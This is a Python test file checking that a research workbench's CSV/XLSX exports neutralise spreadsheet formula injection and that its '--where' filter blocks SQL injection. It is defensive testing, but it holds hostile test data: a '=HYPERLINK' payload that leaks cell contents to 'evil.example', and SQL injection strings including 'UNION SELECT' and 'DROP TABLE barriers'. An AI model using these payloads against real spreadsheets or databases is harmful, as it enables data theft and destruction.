"""Issue 10, items 7, 8 and 10: ``kb export`` and report CSVs are safe to open and fail cleanly.

* participant text such as ``=HYPERLINK(...)`` never becomes a live formula (OWASP: a leading
  ``'`` before ``=``, ``+``, ``-``, ``@``, tab, CR) in ``kb export`` CSV/XLSX, report CSVs and the
  barrier dashboard's download; numbers (also ``-3.5`` typed as text) stay as they are;
* ``--where`` cannot leave its parentheses;
* a NUL character (XLSX cannot hold it) or a full disk gives a message and leaves no partial file.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import resource
import signal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from support.cli import assert_clean_failure, invoke_workbench, run_workbench

from workbench import capture
from workbench.importers import import_file
from workbench.kb import query
from workbench.kb.spreadsheet import is_dangerous, neutralise_frame

HEADER = "barrier_id,region,barrier,dimensions,phase,severity,evidence,source,author\n"
# participant text (barrier, evidence, source, author) as an attacker would type it
DANGEROUS = {
    "HR03-B-1": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "@SUM(A1:A9)", "+cmd"),
    "HR03-B-2": ("-2+3 more costs", "\tleading tab", "\rleading CR", "-3.5"),
    "HR03-B-3": ("Plain text barrier", "-3.5", "1e3", "ana"),
}
FIELDS = ("barrier", "evidence", "source", "author")


def _owasp_expected(text: str) -> str:
    """OWASP's rule, written out independently of workbench.kb.spreadsheet."""
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") and not number else text


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("export")
    db = folder / "kb.duckdb"
    rows = []
    for bid, (barrier, evidence, source, author) in DANGEROUS.items():
        cells = [bid, "HR03", barrier, "governance", "past_actions", "2", evidence, source, author]
        rows.append(cells)
    path = folder / "barriers_hr.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(HEADER)
        csv.writer(fh).writerows(rows)
    import_file(path, db=db)
    stored = query("SELECT barrier_id, barrier, evidence, source, author FROM barriers", db=db)
    # the importer may strip surrounding whitespace: the test compares with what is stored
    assert len(stored) == 3
    return db


def _stored(db: Path) -> pd.DataFrame:
    return query("SELECT * FROM barriers ORDER BY barrier_id", db=db)


def test_export_csv_neutralises_formulas_and_keeps_numbers(kb: Path, tmp_path: Path) -> None:
    out = tmp_path / "barriers.csv"
    done = invoke_workbench("kb", "export", "barriers", "--out", str(out), db=kb)
    assert done.returncode == 0, done.stderr
    with open(out, encoding="utf-8", newline="") as fh:
        got = {r["barrier_id"]: r for r in csv.DictReader(fh)}
    stored = _stored(kb)
    dangerous = 0
    for rec in stored.to_dict("records"):
        for field in FIELDS:
            text = rec[field]
            assert got[rec["barrier_id"]][field] == _owasp_expected(text), (field, text)
            dangerous += _owasp_expected(text) != text
        assert got[rec["barrier_id"]]["severity"] == str(rec["severity"])  # numbers untouched
    assert dangerous >= 5
    # raw text on request (files that go back into a program, not into a spreadsheet)
    raw = tmp_path / "raw.csv"
    done = invoke_workbench("kb", "export", "barriers", "--out", str(raw), "--raw-text", db=kb)
    assert done.returncode == 0, done.stderr
    back = pd.read_csv(raw, keep_default_na=False).set_index("barrier_id")
    assert back.loc["HR03-B-1", "evidence"] == "=1+2"


def test_export_xlsx_has_no_live_formula(kb: Path, tmp_path: Path) -> None:
    out = tmp_path / "barriers.xlsx"
    done = invoke_workbench(
        "kb", "export", "barriers", "--format", "xlsx", "--out", str(out), db=kb
    )
    assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(out)["barriers"]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert all(c.data_type != "f" for row in rows for c in row), "a cell became a formula"
    stored = _stored(kb).set_index("barrier_id")
    for row in rows[1:]:
        rec = dict(zip(header, (c.value for c in row), strict=True))
        for field in FIELDS:
            assert rec[field] == _owasp_expected(stored.loc[rec["barrier_id"], field])
        assert rec["severity"] == stored.loc[rec["barrier_id"], "severity"]
        assert isinstance(rec["severity"], int)


def test_report_csv_and_dashboard_download_are_neutralised(
    kb: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from workbench.dashboards.barriers import csv_link
    from workbench.reporting import start_report

    monkeypatch.setenv("WORKBENCH_DB", str(kb))
    monkeypatch.setenv("WORKBENCH_REPORT_DIR", str(tmp_path / "run"))
    # (a bare CR is left out here: pandas' to_csv does not quote it, which splits the row;
    # reported to the owner of report CSVs)
    texts = [t for values in DANGEROUS.values() for t in values if "\r" not in t]
    df = pd.DataFrame({"idea": texts, "score": [-3.5] * len(texts)})
    report = start_report("Ideas", {}, publish=lambda _bundle: None)
    report.table(df, name="ideas")
    with open(tmp_path / "run" / "ideas.csv", encoding="utf-8", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert [r["idea"] for r in got] == [_owasp_expected(t) for t in texts]
    assert {float(r["score"]) for r in got} == {-3.5}
    link = csv_link(df, "ideas", "ideas")
    payload = re.search(r"base64,([A-Za-z0-9+/=]+)", link)[1]
    rows = list(csv.DictReader(io.StringIO(base64.b64decode(payload).decode("utf-8"))))
    assert [r["idea"] for r in rows] == [_owasp_expected(t) for t in texts]


def test_neutralise_frame_leaves_numeric_columns_and_labels_safe() -> None:
    df = pd.DataFrame({"=cmd": ["=1", "x"], "n": [-3.5, 2.0]}, index=["@a", "b"])
    out = neutralise_frame(df)
    assert list(out.columns) == ["'=cmd", "n"] and list(out.index) == ["'@a", "b"]
    assert out["n"].tolist() == [-3.5, 2.0] and out["n"].dtype == df["n"].dtype
    assert not is_dangerous("-3.5") and not is_dangerous("+1e3") and is_dangerous("-A1")


@pytest.mark.parametrize(
    "where",
    [
        "1=1) UNION SELECT * FROM barriers WHERE (1=1",
        "TRUE) UNION ALL SELECT * FROM datasets, barriers WHERE (TRUE",
        "1) ORDER BY (1",
        "1) LIMIT (1",
        "1) --",
        "1=1) GROUP BY ALL HAVING (1=1",
        "region IN (SELECT region FROM datasets)",
        "1=1; DROP TABLE barriers",
    ],
)
def test_where_cannot_leave_its_parentheses(kb: Path, tmp_path: Path, where: str) -> None:
    out = tmp_path / "w.csv"
    done = invoke_workbench("kb", "export", "barriers", "--out", str(out), "--where", where, db=kb)
    assert_clean_failure(done, "--where")
    assert not out.exists()


def test_where_as_a_filter_still_works(kb: Path, tmp_path: Path) -> None:
    out = tmp_path / "w.csv"
    where = "barrier_id IN ('HR03-B-1', 'HR03-B-3') AND barrier NOT LIKE '%)%'"
    done = invoke_workbench("kb", "export", "barriers", "--out", str(out), "--where", where, db=kb)
    assert done.returncode == 0, done.stderr
    assert pd.read_csv(out)["barrier_id"].tolist() == ["HR03-B-3"]


@pytest.fixture
def kb_with_nul(kb: Path, tmp_path: Path) -> Path:
    """A copy of ``kb`` plus a barrier whose text holds a NUL, entered through the dashboard path."""
    db = tmp_path / "nul.duckdb"
    db.write_bytes(kb.read_bytes())
    capture.submit(
        "policy.barrier",
        {"barrier_id": "HR03-NUL", "region": "HR03", "barrier": "pasted\x00text",
         "dimensions": ["governance"], "phase": "past_actions", "severity": 1},
        client_id="t", idempotency_key="nul-1", db=db,
    )  # fmt: skip
    assert capture.merge(db=db) == 1
    return db


def test_xlsx_export_of_a_nul_character_is_refused_without_partial_file(
    kb_with_nul: Path, tmp_path: Path
) -> None:
    out = tmp_path / "b.xlsx"
    out.write_bytes(b"previous export")
    done = invoke_workbench(
        "kb", "export", "barriers", "--format", "xlsx", "--out", str(out), db=kb_with_nul
    )
    assert_clean_failure(done, "column 'barrier'", "pasted\\x00text", "nothing was written")
    assert out.read_bytes() == b"previous export"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    # leaving the row out with --where works
    done = invoke_workbench(
        "kb", "export", "barriers", "--format", "xlsx", "--out", str(out),
        "--where", "barrier_id <> 'HR03-NUL'", db=kb_with_nul,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert openpyxl.load_workbook(out)["barriers"].max_row == 4


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_full_disk_is_a_message(kb: Path, fmt: str) -> None:
    done = invoke_workbench(
        "kb", "export", "barriers", "--format", fmt, "--out", "/dev/full", db=kb
    )
    assert_clean_failure(done, "could not write /dev/full", "no space left on device")


def _small_file_limit() -> None:
    """In the child: files may not grow beyond 2 KB (as on a full disk), and the signal that
    would kill the process is ignored so that write() fails with an error instead."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_failing_midway_leaves_no_partial_file(kb: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"b.{fmt}"
    done = run_workbench(
        "kb", "export", "observations" if fmt == "csv" else "barriers", "--format", fmt,
        "--out", str(out), db=_with_rows(kb, tmp_path), preexec_fn=_small_file_limit,
    )  # fmt: skip
    assert_clean_failure(done, f"could not write {out}", "no partial file was left")
    assert list(tmp_path.glob("*.csv")) == [] and list(tmp_path.glob("*.xlsx")) == []
    assert list(tmp_path.glob(".*part")) == []


def _with_rows(kb: Path, tmp_path: Path) -> Path:
    """A copy of ``kb`` with enough observation rows for a CSV beyond 2 KB."""
    from batch_kb import build_kb

    db = tmp_path / "big.duckdb"
    db.write_bytes(kb.read_bytes())
    build_kb(db)
    return db
